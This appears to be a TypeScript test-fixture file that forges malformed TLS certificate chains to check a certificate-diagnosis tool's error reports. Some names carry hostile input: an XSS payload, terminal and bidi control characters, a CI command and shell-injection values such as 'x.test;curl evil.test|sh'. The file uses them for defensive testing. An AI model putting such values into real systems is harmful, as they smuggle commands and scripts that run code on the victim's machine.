import {
  bmp,
  commonName,
  dateFromNow,
  der,
  dnsNames,
  extension,
  type Forged,
  type Forgery,
  forge,
  generalTime,
  hugeRsaKey,
  ia5,
  ipNames,
  nameOf,
  newKey,
  printable,
  rsaKey,
  sequence,
  t61,
  utcTime,
  utf8,
} from '../lab/forge.ts';

export const HOST = 'api.lab.test';
/** Terminal colours, reading direction, markup, a line break and the command of a CI runner. */
export const HOSTILE = 'Lab \u202e\u2066\u001b[31m<img src=x onerror=alert(1)>\u0000\r\n::error::forged\u2028`id`';
const CN = '2.5.4.3';
const O = '2.5.4.10';
const OU = '2.5.4.11';

/** What a server shows, and what is true of it. */
export interface Hostile {
  /** Leaf first. */
  chain: Forged[];
  /** In place of the usual host. */
  host?: string;
  /** The root cause; null where calls work. */
  truth: string | null;
  words?: RegExp;
  /** A warning beside calls that work. */
  warns?: string;
  /** Words that stand nowhere. */
  never?: RegExp;
}

const root = forge({ subject: commonName('Kit Root'), ca: true });
const middle = forge({ subject: commonName('Kit Intermediate'), ca: true, by: root });
/** All roots that the run is told to trust. */
export const trusted = [root];

const trustedRoot = (forgery: Forgery) => {
  const made = forge({ ca: true, ...forgery });
  trusted.push(made);
  return made;
};
/** A leaf below the intermediate, and both of them as they are sent. */
const shown = (forgery: Forgery = {}, names = [HOST]) => [
  forge({ by: middle, subject: commonName(HOST), extensions: [dnsNames(...names)], ...forgery }),
  middle,
];
const many = (count: number) => Array.from({ length: count }, (_, at) => `host-${at}.other.test`);
const named = (...names: string[]): Hostile => ({ chain: shown({}, names), truth: 'tls/hostname-mismatch' });
const inDate = (notBefore: Buffer, notAfter: Buffer) => shown({ notBefore, notAfter });

/** Authorities one below the other, the last of which signs the leaf; in the order in which a server sends them. */
function deep(count: number): Forged[] {
  const line = [middle];
  for (let at = 0; at < count; at += 1)
    line.unshift(forge({ subject: commonName(`Kit Step ${at}`), ca: true, by: line[0] as Forged }));
  return [forge({ by: line[0] as Forged, extensions: [dnsNames(HOST)] }), ...line];
}

function circle(): Forged[] {
  const [a, b] = [newKey(), newKey()];
  const [nameA, nameB] = [commonName('Circle A'), commonName('Circle B')];
  const first = forge({ subject: nameA, key: a, ca: true, by: { key: b, subject: nameB } });
  const second = forge({ subject: nameB, key: b, ca: true, by: { key: a, subject: nameA } });
  return [forge({ by: first, extensions: [dnsNames(HOST)] }), first, second];
}

function crossSigned(): { chain: Forged[]; late: Forged[] } {
  const key = newKey();
  const subject = commonName('Kit Cross');
  const stranger = forge({ subject: commonName('Stranger Root'), ca: true });
  const known = forge({ subject, key, ca: true, by: root });
  const unknown = forge({ subject, key, ca: true, by: stranger });
  const old = forge({ subject, key, ca: true, by: root, notBefore: dateFromNow(-900), notAfter: dateFromNow(-300) });
  const leaf = forge({ by: known, extensions: [dnsNames(HOST)] });
  return { chain: [leaf, unknown, stranger, known], late: [leaf, old, known] };
}

const cross = crossSigned();
const rsaRoot = trustedRoot({ subject: commonName('Kit RSA Root'), key: rsaKey(2048) });
const below = (by: Forged, forgery: Forgery = {}) => [forge({ by, extensions: [dnsNames(HOST)], ...forgery })];
const hugeKey = hugeRsaKey(16_384);
const hugeRoot = () => trustedRoot({ subject: commonName('Kit Huge Root'), key: hugeKey });
const weakRoot = () => trustedRoot({ subject: commonName('Kit Weak Root'), key: rsaKey(1024) });

/** Every chain by what is odd about it. */
export const hostileChains: Record<string, Hostile> = {
  sound: { chain: shown(), truth: null },

  // Names.
  'a wildcard that fits': { chain: shown({}, ['*.lab.test']), truth: null },
  'a wildcard beside the name': { chain: shown({}, ['*.other.test', HOST]), truth: null },
  'names in capitals': { chain: shown({}, ['API.Lab.TEST']), truth: null },
  'a wildcard of one label too few': { ...named('*.test'), words: /wildcard matches exactly one label/ },
  'a wildcard for the host itself': { ...named('*.api.lab.test'), words: /wildcard matches exactly one label/ },
  'a wildcard in the middle': named('api.*.test'),
  'two wildcards': named('*.*.test'),
  'a wildcard at the end': named('api.lab.*'),
  'a wildcard for a part of the label': {
    chain: shown({}, ['a*.lab.test']),
    truth: null,
    warns: 'tls/hostname-mismatch',
    words: /although Node\.js accepts it/,
  },
  'a wildcard alone': named('*'),
  'a wildcard without a dot': named('*lab.test'),
  'an address that fits': {
    chain: shown({ extensions: [ipNames(Buffer.from([203, 0, 113, 10]))] }),
    host: '203.0.113.10',
    truth: null,
  },
  'an address of IPv6 that fits': {
    chain: shown({ extensions: [ipNames(Buffer.from('20010db8000100000000000000000010', 'hex'))] }),
    host: '2001:db8:1::10',
    truth: null,
  },
  'an address in the place of a name': {
    chain: shown({}, ['203.0.113.10']),
    host: '203.0.113.10',
    truth: 'tls/hostname-mismatch',
  },
  'a wildcard for an address': { chain: shown({}, ['*.0.113.10']), host: '203.0.113.10', truth: 'tls/hostname-mismatch' },
  'an address of three bytes': {
    chain: shown({ extensions: [ipNames(Buffer.from([203, 0, 113]))] }),
    host: '203.0.113.10',
    truth: 'tls/hostname-mismatch',
  },
  'a thousand names, the right one last': { chain: shown({}, [...many(1000), HOST]), truth: null },
  'a thousand wrong names': { chain: shown({}, many(1000)), truth: 'tls/hostname-mismatch', never: / and 92 more/ },
  'no subject': {
    chain: shown({ subject: sequence(), extensions: [extension('2.5.29.17', sequence(der(0x82, Buffer.from(HOST))), true)] }),
    truth: null,
  },
  'no names at all': {
    chain: shown({ subject: sequence(), extensions: [] }),
    truth: 'tls/hostname-mismatch',
    words: /certificate for no name/,
  },
  'an embedded NUL in the name': { ...named(`${HOST}\0.evil.test`), never: /OPENAI_BASE_URL=https:\/\// },
  'an embedded NUL in the common name': {
    chain: shown({ subject: nameOf([CN, utf8(`${HOST}\0.evil.test`)]), extensions: [] }),
    truth: 'tls/hostname-mismatch',
  },
  'a homograph': { ...named('xn--pi-6kc.lab.test'), never: /OPENAI_BASE_URL=https:\/\/xn--/ },
  'a name that is a command': {
    ...named('x.test;curl evil.test|sh', '$(id).test', '`id`.test', 'a b.test'),
    never: /OPENAI_BASE_URL=https:\/\//,
  },
  'names with controls': { ...named(HOSTILE), words: /forged/ },

  // Text.
  'a subject of 60 kB': {
    chain: shown({ subject: nameOf(...Array.from({ length: 60 }, (): [string, Buffer] => [OU, utf8('x'.repeat(1000))])) }),
    truth: null,
  },
  'strings of every kind': {
    chain: shown({
      subject: nameOf(
        [O, bmp('Lab Ünïcode')],
        [OU, t61('T\xe9l\xe9tex')],
        [CN, printable('name')],
        ['1.2.840.113549.1.9.1', ia5('a@b.test')],
      ),
    }),
    truth: null,
  },
  'hostile text in subject and issuer': {
    chain: [forge({ subject: nameOf([O, utf8(HOSTILE)], [CN, utf8(HOSTILE)]), extensions: [dnsNames(HOST)] })],
    truth: 'tls/self-signed',
    words: /forged/,
  },
  'hostile text in an unknown issuer': {
    chain: [forge({ by: forge({ subject: nameOf([O, utf8(HOSTILE)]), ca: true }), extensions: [dnsNames(HOST)] })],
    truth: 'tls/unknown-issuer',
    words: /forged/,
  },

  // Keys and signatures.
  'a key of 16,384 bits': { chain: below(rsaRoot, { key: hugeKey }), truth: null },
  'an authority with a key of 16,384 bits': { chain: below(hugeRoot()), truth: null },
  'a key of 512 bits': { chain: below(rsaRoot, { key: rsaKey(512) }), truth: 'tls/handshake-failure', words: /alert 40/ },
  'a key of 1024 bits': { chain: below(rsaRoot, { key: rsaKey(1024) }), truth: 'tls/weak', words: /RSA 1024/ },
  'an authority with a key of 1024 bits': { chain: below(weakRoot()), truth: 'tls/weak', words: /RSA 1024/ },
  'a signature with SHA-1': { chain: below(rsaRoot, { digest: 'sha1' }), truth: 'tls/weak', words: /sha1WithRSA/ },
  'a signature with MD5': { chain: below(rsaRoot, { digest: 'md5' }), truth: 'tls/weak', words: /md5WithRSA/ },

  // Dates.
  'dates from 1900 to 9999': { chain: inDate(generalTime('19000101000000Z'), generalTime('99991231235959Z')), truth: null },
  'dates from 1950 on': { chain: inDate(utcTime('500101000000Z'), dateFromNow(90)), truth: null },
  'expired before 1970': {
    chain: inDate(generalTime('19500101000000Z'), generalTime('19690101000000Z')),
    truth: 'tls/expired',
    words: /1969-01-01/,
  },
  'valid from the year 9000': {
    chain: inDate(generalTime('90000101000000Z'), generalTime('99991231235959Z')),
    truth: 'tls/not-yet-valid',
    words: /9000-01-01/,
  },
  'valid for less than no time': { chain: inDate(dateFromNow(3), dateFromNow(-3)), truth: 'tls/expired' },
  'a date that is none': {
    chain: inDate(dateFromNow(-1), generalTime('99999999999999Z')),
    truth: 'tls/invalid-chain',
    words: /date/i,
  },
  'a month 13': { chain: inDate(utcTime('201301000000Z'), dateFromNow(9)), truth: 'tls/invalid-chain', words: /date/i },
  'a day 99': { chain: inDate(dateFromNow(-1), utcTime('269999999999Z')), truth: 'tls/invalid-chain', words: /date/i },

  // Chains.
  'expired, for another name': {
    chain: shown({ notAfter: dateFromNow(-3), extensions: [dnsNames('other.test')] }),
    truth: 'tls/hostname-mismatch',
    words: /dates are invalid/,
  },
  'expired, of nobody, for another name': {
    chain: [
      forge({
        by: forge({ ca: true, subject: commonName('Nobody') }),
        notAfter: dateFromNow(-3),
        extensions: [dnsNames('other.test')],
      }),
    ],
    truth: 'tls/unknown-issuer',
    words: /Further certificate errors/,
  },
  'a hundred certificates, most of no use': {
    chain: [...shown(), ...Array.from({ length: 98 }, (_, at) => forge({ subject: commonName(`Stray ${at}`) }))],
    truth: null,
  },
  'a hundred, the needed one last': {
    chain: [
      ...shown().slice(0, 1),
      ...Array.from({ length: 98 }, (_, at) => forge({ subject: commonName(`Stray ${at}`) })),
      middle,
    ],
    truth: null,
  },
  'expired, a hundred, the needed one last': {
    chain: [
      ...shown({ notAfter: dateFromNow(-3) }).slice(0, 1),
      ...Array.from({ length: 98 }, (_, at) => forge({ subject: commonName(`Stray ${at}`) })),
      middle,
    ],
    truth: 'tls/expired',
  },
  'thirty authorities in a row': { chain: deep(30), truth: null },
  'more authorities than OpenSSL follows': {
    chain: deep(110),
    truth: 'tls/invalid-chain',
    words: /the chain contains 11\d CAs/,
  },
  'authorities in a circle': { chain: circle(), truth: 'tls/unknown-issuer' },
  'every certificate thirty times': { chain: shown().flatMap((one) => Array.from({ length: 30 }, () => one)), truth: null },
  'cross-signed, the stranger first': {
    chain: cross.chain,
    truth: 'tls/unknown-issuer',
    words: /first certification path ends in CN=Stranger Root/,
    never: /root certificate of “CN=Kit/,
  },
  'cross-signed, the expired one first': { chain: cross.late, truth: null },
  'an issuer of another key under the right name': {
    chain: [forge({ by: { key: newKey(), subject: middle.subject }, extensions: [dnsNames(HOST)] }), middle],
    truth: 'tls/missing-intermediate',
    words: /the certificate of that name in the chain has another key/,
  },
  'a critical extension that nobody knows': {
    chain: shown({ extensions: [dnsNames(HOST), extension('1.2.3.4.5', Buffer.from([5, 0]), true)] }),
    truth: 'tls/invalid-chain',
    words: /1\.2\.3\.4\.5/,
  },
  'the same extension twice': {
    chain: shown({ extensions: [dnsNames(HOST), dnsNames('other.test')] }),
    truth: 'tls/invalid-chain',
  },
  'an extension that is broken': {
    chain: shown({ extensions: [dnsNames(HOST), extension('2.5.29.30', Buffer.from([0x30, 0x7f]), true)] }),
    truth: 'tls/invalid-chain',
  },
  'of version 1, a common name alone': { chain: shown({ extensions: null }), truth: null },
  'more than clients read': {
    chain: shown({ extensions: [dnsNames(HOST), extension('1.2.3.4', Buffer.alloc(110_000))] }),
    truth: 'tls/handshake-failure',
    words: /more certificates|too large|100/i,
  },
};
